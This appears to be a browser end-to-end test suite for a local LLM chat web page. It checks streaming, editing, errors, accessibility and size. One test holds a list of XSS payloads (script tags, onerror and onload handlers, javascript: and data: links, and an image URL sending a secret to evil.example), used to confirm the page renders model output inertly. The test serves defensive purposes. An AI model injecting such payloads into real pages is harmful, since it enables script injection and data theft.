// The chat page in real Chromium, by clicks and keys: against `cpm serve`, against a scripted server, and wholly in the page.
//   node test/web/run.mjs [--only TEXT] [--shots FOLDER]
// Prints a line a test and, at the end, "N passed, N failed". Builds the page; its packages are installed on first use.
import { spawn, spawnSync } from "node:child_process";
import { readdirSync, readFileSync } from "node:fs";
import { createServer } from "node:http";
import { createRequire } from "node:module";
import { extname, join, normalize } from "node:path";
import { fileURLToPath } from "node:url";
import { brotliCompressSync, gzipSync } from "node:zlib";
import { chromiumFlags } from "../support/chromium.mjs";
import { modelTests } from "./models.mjs";

const root = fileURLToPath(new URL("../../", import.meta.url));
const built = spawnSync(process.execPath, [join(root, "web/build.mjs")], { cwd: root, stdio: ["ignore", "inherit", "inherit"] });
if (built.status !== 0) process.exit(1);
const require = createRequire(join(root, "web/package.json"));
const { chromium } = require("playwright-core");
/** `--only TEXT`: tests whose title has it. */
const only = process.argv.includes("--only") ? process.argv[process.argv.indexOf("--only") + 1] : "";
const shots = process.argv.includes("--shots") ? process.argv[process.argv.indexOf("--shots") + 1] : undefined;

const counts = { passed: 0, failed: 0 };
function equal(found, wanted, what) {
  if (JSON.stringify(found) !== JSON.stringify(wanted))
    throw new Error(`${what}: expected ${JSON.stringify(wanted)}, found ${JSON.stringify(found)}`);
}
const holds = (fact, what) => {
  if (!fact) throw new Error(what);
};

const types = {
  ".html": "text/html",
  ".js": "text/javascript",
  ".css": "text/css",
  ".wasm": "application/wasm",
  ".json": "application/json",
  ".svg": "image/svg+xml",
};

/** Serves the built page as a plain host does; `isolated`: with the headers that threads need; `config`: in place of its own. */
async function host(isolated, config) {
  const server = createServer((request, response) => {
    const path = new URL(request.url, "http://x").pathname;
    const name = normalize(path === "/" ? "/index.html" : path);
    try {
      const body = config && name === "/config.json" ? JSON.stringify(config) : readFileSync(join(root, "dist/web", name));
      response.writeHead(200, {
        "content-type": types[extname(name)] ?? "application/octet-stream",
        ...(isolated ? { "cross-origin-opener-policy": "same-origin", "cross-origin-embedder-policy": "require-corp" } : {}),
      });
      response.end(body);
    } catch {
      response.writeHead(404).end();
    }
  });
  await new Promise((resolve) => server.listen(0, "127.0.0.1", resolve));
  const close = () =>
    new Promise((resolve) => {
      server.close(resolve); // also when it is closed already
      server.closeAllConnections();
    });
  return { url: `http://127.0.0.1:${server.address().port}/`, close };
}

/** What the test that runs has opened, closed with it whatever becomes of it. */
const opened = [];

/** The page with a server that does what the test says: `script` gets each chat's response to write events to. */
async function scripted(script) {
  const seen = { bodies: [], closed: 0 };
  const { url: page, close } = await host(false);
  const server = createServer(async (request, response) => {
    const path = new URL(request.url, "http://x").pathname;
    if (path === "/config.json") return response.writeHead(200, { "content-type": "application/json" }).end('{"home":"serve"}');
    if (path === "/v1/models")
      return response.writeHead(200, { "content-type": "application/json" }).end('{"data":[{"id":"scripted"}]}');
    if (path === "/v1/chat/completions") {
      let text = "";
      for await (const chunk of request) text += chunk;
      seen.bodies.push(JSON.parse(text));
      response.on("close", () => {
        if (!response.writableEnded) seen.closed++;
      });
      const send = (data) => response.write(`data: ${JSON.stringify(data)}\n\n`);
      return script({
        response,
        begin: () => response.writeHead(200, { "content-type": "text/event-stream" }),
        text: (content) => send({ choices: [{ index: 0, delta: { content } }] }),
        thought: (reasoning_content) => send({ choices: [{ index: 0, delta: { reasoning_content } }] }),
        fail: (message) => send({ error: { message } }),
        end: (finish_reason = "stop") => {
          send({ choices: [{ index: 0, delta: {}, finish_reason }], timings: { predicted_per_second: 9 } });
          response.end("data: [DONE]\n\n");
        },
      });
    }
    const file = await fetch(new URL(path, page));
    response
      .writeHead(file.status, { "content-type": file.headers.get("content-type") ?? "" })
      .end(Buffer.from(await file.arrayBuffer()));
  });
  await new Promise((resolve) => server.listen(0, "127.0.0.1", resolve));
  const ended = async () => {
    server.closeAllConnections();
    if (server.listening) await new Promise((resolve) => server.close(resolve));
    await close();
  };
  opened.push(ended);
  return { url: `http://127.0.0.1:${server.address().port}/`, seen, close: ended };
}

async function served() {
  const command = [join(root, "dist/cli/main.js"), "serve", "--port", "0"];
  const child = spawn(process.execPath, command, { stdio: ["ignore", "ignore", "pipe"], env: { ...process.env, NO_COLOR: "1" } });
  const ended = new Promise((resolve) => child.on("close", resolve));
  const url = await new Promise((resolve, reject) => {
    let log = "";
    child.stderr.setEncoding("utf8").on("data", (text) => {
      log += text;
      const match = /^serving .* at (http:\S+\/)v1$/m.exec(log);
      if (match) resolve(match[1]);
    });
    ended.then(() => reject(new Error(`cpm serve ended: ${log}`)));
  });
  return {
    url,
    close() {
      child.kill("SIGTERM");
      return ended;
    },
  };
}

const browser = await chromium.launch({
  executablePath: process.env.CHROMIUM ?? "/usr/bin/chromium",
  args: chromiumFlags,
});

/** One test: a fresh profile, a page, and no complaint on its console. */
async function test(title, work, options = {}) {
  if (!title.includes(only)) return;
  const began = performance.now();
  const context = await browser.newContext({ viewport: { width: 1200, height: 800 }, ...options });
  const page = await context.newPage();
  page.setDefaultTimeout(60_000);
  const complaints = [];
  page.on("pageerror", (error) => complaints.push(error.message));
  page.on("console", (message) => {
    if (message.type() === "error" && !/Failed to load resource/.test(message.text())) complaints.push(message.text());
  });
  try {
    await work(page, context);
    equal(complaints, [], "complaints on the console");
    counts.passed++;
    console.log(`ok     ${title} (${Math.round(performance.now() - began)} ms)`);
  } catch (error) {
    counts.failed++;
    const shown = await page
      .evaluate(() =>
        ["alert", "chip", "state"].map((name) => `${name}: ${document.querySelector(`.${name}`)?.textContent ?? "none"}`),
      )
      .catch(() => []);
    console.log(
      `FAILED ${title}\n${[String(error?.stack ?? error), ...shown, ...complaints].join("\n").replace(/^/gm, "         ")}`,
    );
    if (shots) await page.screenshot({ path: join(shots, "failed.png") }).catch(() => {});
  } finally {
    await context.close();
    for (const close of opened.splice(0)) await close();
  }
}

const input = ".composer textarea";
const ready = (page) => page.waitForSelector(".chip .name:not(:has-text('Choose a model'))");
const answers = (page) => page.$$eval(".message.assistant .body", (nodes) => nodes.map((node) => node.textContent));
async function ask(page, text) {
  await page.fill(input, text);
  await page.press(input, "Enter");
}
const finished = (page, count = 1) =>
  page.waitForFunction(
    (n) =>
      document.querySelectorAll(".message.assistant .foot button").length >= n &&
      !document.querySelector(".composer button[type=button]"),
    count,
  );
async function greedy(page) {
  await page.click(".gear");
  await page.fill("label:has-text('Temperature') input", "0");
  await page.fill("label:has-text('Tokens of an answer') input", "40");
  await page.click("dialog [aria-label='Close the settings']");
}

const serve = await served();
const plain = await host(false);
const isolated = await host(true);
let fromServer;

await test("against cpm serve: a message is sent with Enter, the answer streams, settings hold, a reload shows it all again", async (page) => {
  await page.goto(serve.url);
  await ready(page);
  await greedy(page);
  await ask(page, "Tell me of a dog.");
  await finished(page);
  [fromServer] = await answers(page);
  holds(fromServer.length > 20, `the answer is "${fromServer}"`);
  holds(/40 tokens/.test(await page.textContent(".figures")), "the count of tokens is shown");
  equal(await page.$eval(input, (node) => document.activeElement === node), true, "focus is in the composer");
  await page.reload();
  await ready(page);
  equal(await answers(page), [fromServer], "answers after a reload");
  if (shots) await page.screenshot({ path: join(shots, "serve.png") });
});

for (const [name, home, worker] of [
  ["isolated by its host", isolated, true],
  ["isolated by its service worker", plain, true],
  ["without isolation", plain, false],
])
  await test(`wholly in the page, ${name}: the same greedy text as the server's, and what it says of threads`, async (page) => {
    // As in windows where nothing may be kept.
    if (!worker) await page.addInitScript("delete Navigator.prototype.serviceWorker");
    await page.goto(home.url);
    await page.waitForFunction((wanted) => crossOriginIsolated === wanted, worker);
    await ready(page);
    await greedy(page);
    await ask(page, "Tell me of a dog.");
    await finished(page);
    equal((await answers(page))[0], fromServer, "the answer");
    const note = await page.$(".note");
    if (!worker) holds(/One thread/.test(await note.textContent()), "one thread is told");
    else holds(note === null, "nothing is told of threads");
  });

await test("wholly in the page: it opens and answers without a network", async (page, context) => {
  await page.goto(isolated.url);
  await ready(page);
  await page.evaluate(() => navigator.serviceWorker.ready);
  await page.reload();
  await ready(page);
  await context.setOffline(true);
  await page.reload();
  await ready(page);
  await ask(page, "Tell me of the sea.");
  await finished(page);
  holds((await answers(page))[0].length > 0, "there is an answer");
});

await test("regenerate and edit make siblings, none is lost, and what is shown is what is sent", async (page) => {
  let count = 0;
  const { url, seen, close } = await scripted(({ begin, text, end }) => {
    begin();
    text(`answer ${++count}`);
    end();
  });
  await page.goto(url);
  await ready(page);
  await ask(page, "first");
  await finished(page);
  await page.click("text=Regenerate");
  await page.waitForSelector("text=answer 2");
  await finished(page);
  holds((await page.textContent(".message.assistant .branches")).includes("2/2"), "two versions");
  await page.click("[aria-label='Previous version']");
  await page.waitForSelector("text=answer 1");
  await ask(page, "second");
  await page.waitForSelector("text=answer 3");
  await finished(page, 4);
  equal(
    seen.bodies.at(-1).messages,
    [
      { role: "user", content: "first" },
      { role: "assistant", content: "answer 1" },
      { role: "user", content: "second" },
    ],
    "what was sent",
  );
  await page.press(input, "ArrowUp");
  await page.fill("[aria-label='Edit the message']", "other");
  await page.press("[aria-label='Edit the message']", "Control+Enter");
  await page.waitForSelector("text=answer 4");
  await finished(page, 4);
  equal(seen.bodies.at(-1).messages.at(-1), { role: "user", content: "other" }, "the edit was sent");
  equal((await answers(page)).length, 2, "answers shown");
  await page.reload();
  await page.waitForSelector("text=answer 4");
  await close();
});

await test("stop keeps the text, tells the server, and the next message is fine; a double click does one thing", async (page) => {
  let turn = 0;
  const { url, seen, close } = await scripted(({ begin, text, end }) => {
    begin();
    text("so far");
    if (++turn > 1) end();
  });
  await page.goto(url);
  await ready(page);
  await page.fill(input, "go");
  await page.dblclick(".send");
  await page.waitForSelector("text=so far");
  equal(seen.bodies.length, 1, "requests");
  equal(await page.textContent(".send"), "Stop", "Stop stands where Send stood");
  await page.waitForTimeout(350);
  await page.click(".send");
  await page.waitForSelector("text=Stopped");
  equal(await answers(page), ["so far"], "the text is kept");
  for (let i = 0; i < 100 && seen.closed === 0; i++) await page.waitForTimeout(20);
  equal(seen.closed, 1, "streams that the server saw closed");
  await ask(page, "again");
  await finished(page, 4);
  await close();
});

await test("errors are said in words and take nothing away: in a stream, a full context, a busy server, a server that is gone", async (page) => {
  let turn = 0;
  const { url, close } = await scripted(({ response, begin, text, fail }) => {
    turn++;
    if (turn === 1) {
      begin();
      text("half");
      fail("a lane died");
      return response.end();
    }
    const [status, code] = turn === 2 ? [400, "context_length_exceeded"] : [429, "busy"];
    response.writeHead(status, { "content-type": "application/json" }).end(JSON.stringify({ error: { message: "m", code } }));
  });
  await page.goto(url);
  await ready(page);
  await ask(page, "one");
  await page.waitForSelector(".failed");
  equal(await answers(page), ["half"], "the text is kept");
  holds((await page.textContent(".failed")).includes("a lane died"), "the message is under Details");
  await ask(page, "two");
  await page.waitForSelector("text=does not fit");
  await ask(page, "three");
  await page.waitForSelector("text=busy");
  await close();
  await ask(page, "four");
  await page.waitForSelector("text=does not answer");
});

await test("reasoning is shown while it comes and folded when the answer begins", async (page) => {
  let go;
  const { url, close } = await scripted(async ({ begin, text, thought, end }) => {
    begin();
    thought("let me think");
    await new Promise((resolve) => {
      go = resolve;
    });
    text("done");
    end();
  });
  await page.goto(url);
  await ready(page);
  await ask(page, "x");
  await page.waitForSelector(".reasoning[open]");
  go();
  await finished(page);
  equal(await page.$eval(".reasoning", (node) => node.open), false, "folded");
  equal(await answers(page), ["done"], "the answer");
  await close();
});

await test("a reader who goes to another conversation and comes back sees what came meanwhile, and the rest as it comes", async (page) => {
  let more;
  const { url } = await scripted(async ({ begin, text, thought, end }) => {
    begin();
    thought("hm");
    text("one ");
    text("two ");
    await new Promise((resolve) => {
      more = resolve;
    });
    text("three");
    end();
  });
  await page.goto(url);
  await ready(page);
  await ask(page, "count");
  await page.waitForSelector(".message.assistant .body:has-text('one two')");
  await page.keyboard.press("Control+Shift+O");
  await page.waitForFunction(() => !document.querySelector(".message"));
  await page.click(".sidebar .title:has-text('count')");
  await page.waitForSelector(".message.assistant .body:has-text('one two')");
  more();
  await finished(page);
  equal(await answers(page), ["one two three"], "the answer");
  equal((await page.textContent(".reasoning p")).trim(), "hm", "the reasoning");
  holds((await page.textContent(".reasoning summary")).startsWith("Thought"), "the summary");
  await page.click(".reasoning summary");
  await page.waitForSelector(".reasoning[open]");
  await page.focus(".reasoning summary");
  await page.keyboard.press("Enter");
  await page.waitForSelector(".reasoning:not([open])", { state: "attached" });
});

const hostile = [
  '<img src=x onerror="window.pwned=1">',
  "<script>window.pwned=1</script>",
  "[a](javascript:window.pwned=1)",
  "[b](data:text/html,<script>window.pwned=1</script>)",
  "![c](https://evil.example/?secret)",
  '<svg onload="window.pwned=1">',
  "[https://good.example](https://evil.example)",
  "`<b>`",
].join("\n\n");

await test("what a model writes is text: no script runs, nothing is loaded, links say where they lead; code can be copied", async (page) => {
  const { url, close } = await scripted(({ begin, text, end }) => {
    begin();
    for (const piece of `${hostile}\n\n\`\`\`js\nlet a = 1;\n\`\`\`\n`.match(/[\s\S]{1,7}/g)) text(piece);
    end();
  });
  const asked = [];
  page.on("request", (request) => {
    if (!request.url().startsWith(url)) asked.push(request.url());
  });
  await page.goto(url);
  await ready(page);
  await ask(page, "x");
  await finished(page);
  equal(await page.evaluate(() => window.pwned ?? null), null, "a script ran");
  equal(asked, [], "requests elsewhere");
  equal(await page.$$eval(".body img, .body script, .body svg", (nodes) => nodes.length), 0, "elements that load");
  const links = await page.$$eval(".body a", (nodes) => nodes.map((node) => node.protocol));
  holds(
    links.every((protocol) => protocol === "https:"),
    `links: ${links}`,
  );
  holds((await page.textContent(".message.assistant .body")).includes("(evil.example)"), "the real host is told");
  equal(await page.textContent(".code code"), "let a = 1;", "code");
  await close();
});

await test("streaming: what is shown at the end is a reading of the whole, nothing above moves, and a reader who scrolls up stays", async (page) => {
  const source = `${Array.from({ length: 30 }, (_, i) => `Paragraph ${i} with **bold** and \`code\`.`).join("\n\n")}\n\n\`\`\`\n${"line\n".repeat(40)}\`\`\`\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n1. one\n2. two\n`;
  let steps;
  const { url, close } = await scripted(async ({ begin, text, end }) => {
    begin();
    for (const piece of source.match(/[\s\S]{1,40}/g)) {
      text(piece);
      await steps?.();
    }
    end();
  });
  await page.goto(url);
  await ready(page);
  await page.evaluate(() => {
    window.shift = 0;
    new PerformanceObserver((list) => {
      for (const entry of list.getEntries()) if (!entry.hadRecentInput) window.shift += entry.value;
    }).observe({ type: "layout-shift", buffered: true });
  });
  steps = () => new Promise((resolve) => setTimeout(resolve, 10));
  await ask(page, "x");
  await page.waitForSelector("text=Paragraph 20");
  await page.hover(".scroll");
  await page.mouse.wheel(0, -400);
  await page.waitForTimeout(50);
  const top = await page.$eval(".scroll", (node) => node.scrollTop);
  await finished(page);
  equal(await page.$eval(".scroll", (node) => node.scrollTop), top, "the place of a reader who scrolled up");
  holds((await page.evaluate(() => window.shift)) < 0.01, `layout shift ${await page.evaluate(() => window.shift)}`);
  const streamed = await page.$eval(".message.assistant .body", (node) => node.innerHTML);
  await page.reload();
  await page.waitForSelector("text=Paragraph 20");
  equal(await page.$eval(".message.assistant .body", (node) => node.innerHTML), streamed, "streamed and stored");
  await close();
});

for (const [name, options] of [
  ["wide, light", {}],
  ["wide, dark", { colorScheme: "dark" }],
  ["390 px, light", { viewport: { width: 390, height: 780 } }],
  ["390 px, dark", { viewport: { width: 390, height: 780 }, colorScheme: "dark" }],
])
  await test(
    `${name}: no violation that axe finds, in the chat and in the settings; nothing wider than the screen`,
    async (page) => {
      const { url, close } = await scripted(({ begin, text, end }) => {
        begin();
        text(`Hello **there**.\n\n\`\`\`js\n${"x".repeat(300)}\n\`\`\`\n\n> quote\n\n- [link](https://a.example)\n`);
        end();
      });
      await page.goto(url);
      await ready(page);
      await ask(page, `A word that is very long: ${"a".repeat(120)}`);
      await finished(page);
      const axe = readFileSync(require.resolve("axe-core/axe.min.js"), "utf8");
      // The page's own policy lets no script in: the tool is let in by the browser.
      await page.evaluate(axe);
      const violations = async () =>
        (await page.evaluate(() => globalThis.axe.run())).violations.map(
          ({ id, nodes }) => `${id}: ${nodes[0]?.html.slice(0, 120)}`,
        );
      equal(await violations(), [], "violations in the chat");
      equal(
        await page.evaluate(() => document.documentElement.scrollWidth <= innerWidth),
        true,
        "nothing is wider than the screen",
      );
      if (shots) await page.screenshot({ path: join(shots, `${name.replace(/\W+/g, "-")}.png`) });
      await page.click(".gear");
      equal(await violations(), [], "violations in the settings");
      if (shots) await page.screenshot({ path: join(shots, `${name.replace(/\W+/g, "-")}-settings.png`) });
      await page.keyboard.press("Escape");
      await page.waitForSelector("dialog", { state: "detached" });
      await close();
    },
    options,
  );

await test("the keyboard alone: new chat, list, delete and undo; a draft stays with its conversation", async (page) => {
  const { url, close } = await scripted(({ begin, text, end }) => {
    begin();
    text("ok");
    end();
  });
  await page.goto(url);
  await ready(page);
  await ask(page, "first chat");
  await finished(page);
  await page.keyboard.press("Control+Shift+O");
  await page.fill(input, "a draft");
  await page.click("text=first chat");
  const draft = (wanted) => page.waitForFunction((text) => document.querySelector(".composer textarea").value === text, wanted);
  await draft("");
  await page.click(".sidebar .title:has-text('New chat')");
  await draft("a draft");
  await page.click("[aria-label='Delete “first chat”']");
  await page.waitForSelector("text=deleted");
  await page.click("text=Undo");
  await page.waitForSelector(".sidebar .title:has-text('first chat')");
  await page.waitForSelector(".message.assistant .body:has-text('ok')");
  await close();
});

await test("a file of one's own: the model's, and one that is none, which is said", async (page) => {
  await page.goto(plain.url);
  await ready(page);
  await page.click(".gear");
  await page.setInputFiles("dialog .models input[type=file]", {
    name: "broken.gguf",
    mimeType: "application/octet-stream",
    buffer: Buffer.from("no model at all, but some text that is long enough"),
  });
  await page.waitForSelector(".alert:has-text('damaged or is no model')");
  // A name is looked for on the hub, which cannot be reached from here; an address is read where it is.
  const asked = [];
  await page.route("https://huggingface.co/**", (route) => {
    asked.push(new URL(route.request().url()).pathname);
    return route.abort();
  });
  await page.fill("dialog input[placeholder^='openbmb']", "a/b:Q4_0");
  await page.click("dialog .models > form button");
  await page.waitForSelector(".download .failed:has-text('not found, or the hub could not be asked')", { timeout: 120_000 });
  holds(asked.every((path) => path.startsWith("/api/models/a/b")) && asked.length > 0, `asked of the hub: ${asked}`);
  await page.fill("dialog input[placeholder^='openbmb']", new URL("assets/none.gguf", plain.url).href);
  await page.click("dialog .models > form button");
  await page.waitForSelector(".alert:has-text('Reading the model failed')");
  await page.setInputFiles("dialog .models input[type=file]", join(root, "models/stories-q4_0.gguf"));
  await page.waitForSelector(".chip .name:has-text('stories-q4_0.gguf')");
});

const axe = readFileSync(require.resolve("axe-core/axe.min.js"), "utf8");
await modelTests({ axe, test, host, opened, scripted, equal, holds, input, ready, greedy, ask, answers, finished, shots });

// What chatting in the page loads: all but the engine for the page's own thread, which only inspecting uses.
const folder = join(root, "dist/web/assets");
const size = (pattern, compress) =>
  readdirSync(folder)
    .filter((file) => pattern.test(file) && !file.startsWith("here-"))
    .reduce((sum, file) => sum + compress(readFileSync(join(folder, file))).length, 0);
const gzip = (bytes) => gzipSync(bytes, { level: 9 });
const [first, all, small] = [
  size(/^index.*\.(js|css)$/, gzip),
  size(/\.(js|css)$/, gzip),
  size(/\.(js|css)$/, (bytes) => brotliCompressSync(bytes)),
];
console.log(
  `sizes, gzip: ${first} bytes against a server, ${all} bytes where the model runs in the page (brotli: ${small}), without kernels and models`,
);
await test("the whole app is below 200 KB as hosts compress it (brotli), without kernels and models", () => {
  holds(small < 200_000, `${small} bytes`);
});
await browser.close();
await serve.close();
await plain.close();
await isolated.close();
console.log(`\n${counts.passed} passed, ${counts.failed} failed`);
process.exit(counts.failed ? 1 : 0);
